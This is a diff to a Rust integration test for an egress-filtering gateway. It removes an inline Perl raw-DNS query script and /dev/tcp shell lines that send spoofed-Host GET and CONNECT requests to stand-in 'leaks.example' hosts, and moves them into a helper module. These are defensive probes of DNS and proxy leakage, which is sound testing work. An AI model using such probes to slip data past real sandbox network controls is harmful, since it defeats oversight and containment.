@@ -8,7 +8,7 @@ use std::net::Ipv4Addr;
 
 use serde_json::{Value, json};
 use tempfile::TempDir;
-use tests::{Binaries, Container, Docker, Lines, Network, Process, Run, rounds};
+use tests::{Binaries, Container, Docker, Lines, Network, Process, Run, leaks, rounds};
 
 const TOKEN: &str = "the-real-token";
 const API: &str = "api.example.test";
@@ -264,25 +264,6 @@ while (1) {
 }
 "#;
 
-/// Asks each of the servers that follow for names under the first word: by UDP, by TCP, and as musl does, for both kinds of address at once
-/// from one socket.
-const ASKING: &str = r#"
-use Socket;
-my ($under, @servers) = @ARGV;
-sub question { my ($name, $kind) = @_; "\x12\x34\1\0\0\1\0\0\0\0\0\0" . join("", map { chr(length) . $_ } split /\./, $name) . "\0" . pack("nn", $kind, 1) }
-sub hear { my ($socket) = @_; my $bits = ""; vec($bits, fileno $socket, 1) = 1; select($bits, undef, undef, 0.5) > 0 and sysread($socket, my $answer, 512) }
-for my $server (@servers) {
-    my $to = pack_sockaddr_in(53, inet_aton($server));
-    socket(my $udp, AF_INET, SOCK_DGRAM, 0); send($udp, question("udp.$under", 1), 0, $to); hear($udp);
-    socket(my $musl, AF_INET, SOCK_DGRAM, 0); bind($musl, pack_sockaddr_in(0, INADDR_ANY));
-    send($musl, question("musl.$under", $_), 0, $to) for (1, 28); hear($musl) for (1, 2);
-    local $SIG{ALRM} = sub { die }; alarm 2;
-    eval { socket(my $tcp, AF_INET, SOCK_STREAM, 0); my $query = question("tcp.$under", 16);
-        connect($tcp, $to) and syswrite($tcp, pack("n", length $query) . $query) and hear($tcp) };
-    alarm 0;
-}
-"#;
-
 #[test]
 fn no_name_but_those_of_the_routes_gets_to_who_answers_for_it() {
     let Some(docker) = docker() else { return };
@@ -294,7 +275,6 @@ fn no_name_but_those_of_the_routes_gets_to_who_answers_for_it() {
         server.stdout.text().lines().filter(|line| *line != "ready").map(str::to_owned).collect()
     };
     let api = world.api.address(&world.outside).unwrap();
-    let ask = |under: &str, servers: &[&str]| format!("perl -e '{ASKING}' {under} {}\n", servers.join(" "));
     world.apply(&format!(
         "{}  - {{host: allowed.example, scheme: http, allow_private: [10.0.0.0/8], path_allowlist: [/v1/]}}\n",
         routes("/v1/")
@@ -303,40 +283,19 @@ fn no_name_but_those_of_the_routes_gets_to_who_answers_for_it() {
     world.bundle.kill("HUP").unwrap();
     world.logs.wait_after(mark, |line| line.contains("generation 2")).unwrap();
 
-    // What an agent may try to get a name out.
-    let through = |target: &str, host: &str| {
-        let head = format!("GET {target} HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n");
-        format!("exec 3<>/dev/tcp/egress/9099; printf '{head}' >&3; timeout 20 head -n 1 <&3\n")
-    };
-    let connect = "CONNECT tunnel.leaks.example:443 HTTP/1.1\\r\\nHost: tunnel.leaks.example:443\\r\\n\\r\\n";
     let [sealed, outside] = &world.gateways;
     let servers = [&api, &world.bundle_address, sealed, outside, "198.51.100.53", "127.0.0.11"];
-    let mut script = ask("leaks.example", &servers);
-    script.push_str("timeout 20 getent ahosts resolver.leaks.example\n");
-    script.push_str(&format!(
-        "exec 3<>/dev/tcp/egress/9099; printf '{connect}' >&3; timeout 20 head -n 1 <&3\n"
-    ));
-    for (target, host) in [
-        ("http://plain.leaks.example/v1/", "plain.leaks.example"),
-        ("http://allowed.example.leaks.example/v1/", "allowed.example.leaks.example"),
-        ("http://allowed.example/v1/", "host.leaks.example"),
-        ("http://target.leaks.example/v1/", "allowed.example"),
-        ("http://allowed.example:81/v1/", "allowed.example:81"),
-        ("http://allowed.example/refused", "allowed.example"),
-    ] {
-        script.push_str(&through(target, host));
-    }
-    let tried = world.agent.shell(&script).unwrap();
-    assert_eq!(tried.stdout.lines().count(), 7, "{tried:?}");
+    let tried = world.agent.shell(&leaks::everything(&servers)).unwrap();
+    assert_eq!(tried.stdout.lines().count(), leaks::ANSWERS, "{tried:?}");
 
     // What is allowed is looked up there, as the first of all: had another name come before, it would stand before it.
-    world.agent.shell(&through("http://allowed.example/v1/", "allowed.example")).unwrap();
+    world.agent.shell(&leaks::through("GET", "http://allowed.example/v1/", "allowed.example")).unwrap();
     server.stdout.wait(|line| line == "allowed.example").unwrap();
     assert_eq!(asked(), BTreeSet::from(["allowed.example".to_owned()]), "{tried:?}");
     // Where there is no wall, everything that was tried arrives.
-    world.bundle.shell(&ask("open.example", &[&api])).unwrap().ok().unwrap();
-    for arrived in ["musl.open.example", "tcp.open.example", "udp.open.example"] {
-        server.stdout.wait(|line| line == arrived).unwrap();
+    world.bundle.shell(&leaks::asking("open.example", &[&api])).unwrap().ok().unwrap();
+    for name in leaks::ASKED {
+        server.stdout.wait(|line| line == format!("{name}.open.example")).unwrap();
     }
 }
 
